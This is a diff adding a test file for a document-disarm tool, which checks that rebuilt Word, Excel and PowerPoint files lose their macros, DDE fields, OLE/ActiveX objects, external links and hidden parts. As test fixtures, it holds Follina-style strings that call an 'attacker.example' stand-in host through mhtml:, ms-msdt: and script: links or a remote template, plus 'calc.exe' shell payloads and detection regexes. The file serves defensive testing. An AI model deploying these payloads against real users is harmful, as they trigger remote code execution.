@@ -1,0 +1,394 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+
+import {
+  buildImage,
+  buildOfficeDocument,
+  buildOpcPackage,
+  buildWordDocument,
+  buildWorkbook,
+  buildPresentation,
+  buildZip,
+  COMPOUND_FIXTURES,
+  EICAR_TEST_FILE,
+  OOXML_MAIN_TYPES,
+  RELATIONSHIP_TYPES,
+} from '@disarm/fixtures';
+import type { OoxmlExtension } from '@disarm/fixtures';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+
+import { disarm } from '../../disarm.ts';
+import { isDisarmError } from '../../errors.ts';
+import type { CleanedOutcome, Outcome } from '../../outcome.ts';
+
+let dir: string;
+beforeAll(async () => {
+  dir = await mkdtemp(join(tmpdir(), 'ooxml-test-'));
+});
+afterAll(async () => {
+  await rm(dir, { recursive: true, force: true });
+});
+
+function cleaned(outcome: Outcome): CleanedOutcome {
+  if (outcome.status !== 'cleaned') {
+    throw new Error(`expected cleaned, got ${outcome.reason}: ${outcome.detail}`);
+  }
+  return outcome;
+}
+
+/** The package as Info-ZIP sees it: member names, and every member's text. */
+async function unzipped(bytes: Uint8Array): Promise<{ names: string[]; text: string }> {
+  const path = join(dir, `${Math.random().toString(36).slice(2)}.zip`);
+  await writeFile(path, bytes);
+  execFileSync('unzip', ['-tqq', path]);
+  const names = execFileSync('unzip', ['-Z1', path], { encoding: 'utf8' }).trim().split('\n');
+  const text = execFileSync('unzip', ['-p', path], { encoding: 'latin1', maxBuffer: 1 << 26 });
+  return { names, text };
+}
+
+const findingsOf = (outcome: CleanedOutcome): Record<string, number> =>
+  Object.fromEntries(outcome.findings.map((finding) => [finding.kind, finding.count]));
+
+const EXTENSIONS = Object.keys(OOXML_MAIN_TYPES) as OoxmlExtension[];
+
+describe('OOXML rebuild', () => {
+  it.each(EXTENSIONS)(
+    'rebuilds a clean .%s with nothing to report, in its own format and main content type',
+    async (extension) => {
+      const input = await buildOfficeDocument(extension, {
+        texts: ['Quarterly numbers', 'Second line'],
+        hyperlinks: ['https://example.com/report'],
+      });
+      const outcome = cleaned(await disarm({ bytes: input, fileName: `a.${extension}` }));
+      expect(outcome.findings).toEqual([]);
+      expect(outcome.format).toBe(extension);
+      const { names, text } = await unzipped(outcome.bytes);
+      expect(names[0]).toBe('[Content_Types].xml');
+      expect(text).toContain(OOXML_MAIN_TYPES[extension]);
+      expect(text).toContain('Quarterly numbers');
+      expect(text).toContain('https://example.com/report');
+    },
+  );
+
+  it.each(EXTENSIONS)(
+    'removes VBA, custom UI, custom XML, custom properties and signatures from .%s',
+    async (extension) => {
+      const input = await buildOfficeDocument(extension, {
+        vba: true,
+        customUi: true,
+        customXml: true,
+        signature: true,
+        payload: 'Shell "calc.exe"',
+      });
+      const outcome = cleaned(await disarm({ bytes: input, fileName: `a.${extension}` }));
+      const found = findingsOf(outcome);
+      // The project and its signature; the ribbon's callback names a VBA procedure.
+      expect(found['vba-macro']).toBe(3);
+      expect(found['document-metadata']).toBe(2);
+      // Signature origin and signature; Word documents also carry document variables.
+      expect(found['hidden-data']).toBe(extension.startsWith('do') ? 3 : 2);
+      const { names, text } = await unzipped(outcome.bytes);
+      expect(
+        names.filter((name) => /vba|customxml|custom\.xml|customui|signature/i.test(name)),
+      ).toEqual([]);
+      expect(text).not.toContain('calc.exe');
+      expect(text).not.toContain('vbaProject');
+      expect(text).toContain('Hello');
+    },
+  );
+
+  it('removes DDE, INCLUDETEXT and INCLUDEPICTURE fields from Word, keeping their results and safe fields', async () => {
+    const input = await buildWordDocument('docx', { dde: true, fetchingFields: true });
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
+    expect(findingsOf(outcome)).toEqual({ 'dde-link': 2, 'external-relationship': 2 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toMatch(/DDE|INCLUDE|attacker\.example/);
+    for (const result of ['dde result', 'simple dde', 'included', 'picture']) {
+      expect(text).toContain(result);
+    }
+    expect(text).toContain(' PAGE ');
+  });
+
+  it('removes the Follina family: remote templates, OLE links to mhtml:/ms-msdt:, unsafe hyperlinks', async () => {
+    const input = await buildWordDocument('docx', {
+      attachedTemplate: 'http://attacker.example/t.dotm',
+      externalOle: 'mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html',
+      hyperlinks: [
+        'ms-msdt:/id PCWDiagnostic /skip force',
+        'file:///C:/Windows/calc.exe',
+        'https://example.com/',
+      ],
+    });
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
+    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 4 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toMatch(/attacker|ms-msdt|file:|attachedTemplate|OLEObject/);
+    expect(text).toContain('https://example.com/');
+    // The link texts stay; only the targets go.
+    expect(text).toContain('link 0');
+  });
+
+  it('removes embedded OLE objects and ActiveX controls with their anchors', async () => {
+    const input = await buildWordDocument('docx', { oleObject: true, activeX: true });
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
+    expect(findingsOf(outcome)).toMatchObject({ 'embedded-object': 1, 'activex-control': 1 });
+    const { names, text } = await unzipped(outcome.bytes);
+    expect(names.filter((name) => /embeddings|activeX/i.test(name))).toEqual([]);
+    expect(text).not.toMatch(/w:object|w:control|Ole10Native/);
+  });
+
+  it('removes XLM macro sheets, Auto_Open names, DDE and external formulas, links and connections from Excel', async () => {
+    const input = await buildWorkbook('xlsm', {
+      macroSheet: true,
+      dde: true,
+      externalData: true,
+      oleObject: true,
+    });
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsm' }));
+    expect(findingsOf(outcome)).toEqual({
+      'xlm-macro': 3,
+      'dde-link': 1,
+      'external-relationship': 3,
+      'data-connection': 1,
+      'embedded-object': 1,
+    });
+    const { names, text } = await unzipped(outcome.bytes);
+    expect(
+      names.filter((name) => /macrosheet|externalLink|connections|embeddings/i.test(name)),
+    ).toEqual([]);
+    expect(text).not.toMatch(
+      /Auto_Open|cmd\||WEBSERVICE|\[1\]|externalReference|oleObject|Macro1|EXEC/,
+    );
+    // Cached values and ordinary formulas stay.
+    expect(text).toContain('<f>SUM(1,2)</f>');
+    expect(text).toContain('<v>7</v>');
+    expect(text).toContain('<definedName name="Total">');
+  });
+
+  it('removes OLE frames and macro actions from PowerPoint, keeping the slide text', async () => {
+    const input = await buildPresentation('ppsx', {
+      externalOle: 'script:http://attacker.example/x.sct',
+      macroAction: true,
+      texts: ['Slide one', 'Slide two'],
+    });
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.ppsx' }));
+    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 1, 'vba-macro': 1 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toMatch(/oleObj|graphicFrame|ppaction|attacker/);
+    expect(text).toContain('Slide one');
+    expect(text).toContain('Slide two');
+  });
+
+  it('rebuilds images through the image handler, metadata removed', async () => {
+    const png = await buildImage('png', {
+      width: 32,
+      height: 32,
+      exif: { Artist: 'Secret Agent' },
+    });
+    for (const extension of ['docx', 'xlsx', 'pptx'] as const) {
+      const input = await buildOfficeDocument(extension, { image: png });
+      const outcome = cleaned(await disarm({ bytes: input, fileName: `a.${extension}` }));
+      expect(findingsOf(outcome)).toEqual({ 'image-metadata': 1 });
+      const { names, text } = await unzipped(outcome.bytes);
+      expect(names.some((name) => name.endsWith('media/image1.png')) || extension !== 'docx').toBe(
+        true,
+      );
+      expect(text).not.toContain('Secret Agent');
+    }
+  });
+
+  it('drops unknown and unreferenced parts, counting them', async () => {
+    const base = {
+      name: 'word/document.xml',
+      contentType: OOXML_MAIN_TYPES.docx,
+      data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:body></w:document>',
+      relationships: [
+        { id: 'rId9', type: 'http://example.com/relationships/payload', target: 'payload.bin' },
+        { id: 'rId8', type: RELATIONSHIP_TYPES.styles, target: 'missing.xml' },
+      ],
+    };
+    const input = await buildOpcPackage(
+      [
+        base,
+        { name: 'word/payload.bin', contentType: 'application/octet-stream', data: 'MZ payload' },
+        { name: 'stray/readme.exe', contentType: 'application/x-msdownload', data: 'MZ stray' },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
+    );
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
+    expect(findingsOf(outcome)).toEqual({ 'hidden-data': 2 });
+    const { names, text } = await unzipped(outcome.bytes);
+    expect(names.sort()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/document.xml']);
+    expect(text).not.toContain('MZ');
+  });
+
+  it('empties legacy VML that is not well-formed instead of refusing the workbook', async () => {
+    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+    const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+    const input = await buildOpcPackage(
+      [
+        {
+          name: 'xl/workbook.xml',
+          contentType: OOXML_MAIN_TYPES.xlsx,
+          data: `<workbook xmlns="${S}" xmlns:r="${R}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+          relationships: [
+            { id: 'rId1', type: RELATIONSHIP_TYPES.worksheet, target: 'worksheets/sheet1.xml' },
+          ],
+        },
+        {
+          name: 'xl/worksheets/sheet1.xml',
+          contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
+          data: `<worksheet xmlns="${S}" xmlns:r="${R}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Kept</t></is></c></row></sheetData><legacyDrawing r:id="rId1"/></worksheet>`,
+          relationships: [
+            {
+              id: 'rId1',
+              type: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/vmlDrawing',
+              target: '../drawings/vmlDrawing1.vml',
+            },
+          ],
+        },
+        {
+          name: 'xl/drawings/vmlDrawing1.vml',
+          contentType: 'application/vnd.openxmlformats-officedocument.vmlDrawing',
+          data: '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><div>note<br></div></v:shape></xml>',
+        },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
+    );
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
+    expect(findingsOf(outcome)).toEqual({ 'hidden-data': 1 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).toContain('Kept');
+    expect(text).not.toContain('<br>');
+  });
+
+  it('removes references to dropped parts, VML o:relid included, so none dangles', async () => {
+    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+    const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+    const input = await buildOpcPackage(
+      [
+        {
+          name: 'xl/workbook.xml',
+          contentType: OOXML_MAIN_TYPES.xlsx,
+          data: `<workbook xmlns="${S}" xmlns:r="${R}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+          relationships: [
+            { id: 'rId1', type: RELATIONSHIP_TYPES.worksheet, target: 'worksheets/sheet1.xml' },
+          ],
+        },
+        {
+          name: 'xl/worksheets/sheet1.xml',
+          contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
+          data: `<worksheet xmlns="${S}" xmlns:r="${R}"><sheetData/><legacyDrawing r:id="rId1"/></worksheet>`,
+          relationships: [
+            {
+              id: 'rId1',
+              type: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/vmlDrawing',
+              target: '../drawings/vmlDrawing1.vml',
+            },
+          ],
+        },
+        {
+          name: 'xl/drawings/vmlDrawing1.vml',
+          contentType: 'application/vnd.openxmlformats-officedocument.vmlDrawing',
+          data: '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape><v:imagedata o:relid="rId1" o:title=""/></v:shape></xml>',
+          relationships: [
+            { id: 'rId1', type: RELATIONSHIP_TYPES.image, target: '../media/image1.emf' },
+          ],
+        },
+        { name: 'xl/media/image1.emf', contentType: 'image/x-emf', data: 'EMF' },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
+    );
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
+    expect(findingsOf(outcome)).toEqual({ 'hidden-data': 1 });
+    const { names, text } = await unzipped(outcome.bytes);
+    expect(names).not.toContain('xl/media/image1.emf');
+    expect(text).toContain('<v:imagedata o:title=""/>');
+  });
+
+  it('is deterministic and idempotent: a rebuilt document comes back byte-identical with nothing to report', async () => {
+    const input = await buildWordDocument('docm', {
+      vba: true,
+      dde: true,
+      hyperlinks: ['https://example.com/'],
+    });
+    const first = cleaned(await disarm({ bytes: input, fileName: 'a.docm' }));
+    const again = cleaned(await disarm({ bytes: input, fileName: 'a.docm' }));
+    expect(Buffer.compare(Buffer.from(first.bytes), Buffer.from(again.bytes))).toBe(0);
+    const second = cleaned(await disarm({ bytes: first.bytes, fileName: 'a.docm' }));
+    expect(second.findings).toEqual([]);
+    expect(Buffer.compare(Buffer.from(second.bytes), Buffer.from(first.bytes))).toBe(0);
+  });
+
+  it('lets a policy reject what it would strip', async () => {
+    const input = await buildWorkbook('xlsm', { vba: true });
+    expect(
+      await disarm({ bytes: input, fileName: 'a.xlsm' }, { policy: { 'vba-macro': 'reject' } }),
+    ).toMatchObject({ status: 'rejected', reason: 'policy_violation' });
+  });
+
+  it('refuses a DOCTYPE in any part as invalid_file (no entity is ever expanded)', async () => {
+    for (const extension of ['docx', 'xlsx', 'pptx'] as const) {
+      const input = await buildOfficeDocument(extension, { doctype: true });
+      expect(await disarm({ bytes: input, fileName: `a.${extension}` })).toMatchObject({
+        status: 'rejected',
+        reason: 'invalid_file',
+        detail: expect.stringContaining('DOCTYPE') as unknown,
+      });
+    }
+  });
+
+  it('rejects what is not a package of the claimed kind, encrypted packages and threats inside', async () => {
+    const plainZip = await buildZip([{ name: 'a.txt', data: 'hello' }]);
+    expect(await disarm({ bytes: plainZip, fileName: 'a.docx' })).toMatchObject({
+      reason: 'invalid_file',
+    });
+    const workbook = await buildWorkbook('xlsx');
+    expect(await disarm({ bytes: workbook, fileName: 'a.docx' })).toMatchObject({
+      reason: 'invalid_file',
+    });
+    const broken = await buildOpcPackage(
+      [{ name: 'word/document.xml', contentType: OOXML_MAIN_TYPES.docx, data: '<w:document' }],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
+    );
+    expect(await disarm({ bytes: broken, fileName: 'a.docx' })).toMatchObject({
+      reason: 'invalid_file',
+    });
+    expect(
+      await disarm({ bytes: COMPOUND_FIXTURES.encryptedOoxml(), fileName: 'a.xlsx' }),
+    ).toMatchObject({ reason: 'password_protected' });
+    const infected = await buildOpcPackage(
+      [
+        {
+          name: 'word/document.xml',
+          contentType: OOXML_MAIN_TYPES.docx,
+          data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
+        },
+        { name: 'word/eicar.bin', contentType: 'application/octet-stream', data: EICAR_TEST_FILE },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
+    );
+    expect(await disarm({ bytes: infected, fileName: 'a.docx' })).toMatchObject({
+      reason: 'threat_detected',
+    });
+  });
+
+  it('keeps xlsb failing closed as not yet supported', async () => {
+    const input = await buildOpcPackage(
+      [
+        {
+          name: 'xl/workbook.bin',
+          contentType: 'application/vnd.ms-excel.sheet.binary.macroEnabled.main',
+          data: '\u0083\u0001\u0000',
+        },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.bin' }],
+    );
+    const error: unknown = await disarm({ bytes: input, fileName: 'a.xlsb' }).catch(
+      (caught: unknown) => caught,
+    );
+    expect(isDisarmError(error, 'ERR_NOT_YET_SUPPORTED')).toBe(true);
+  });
+});
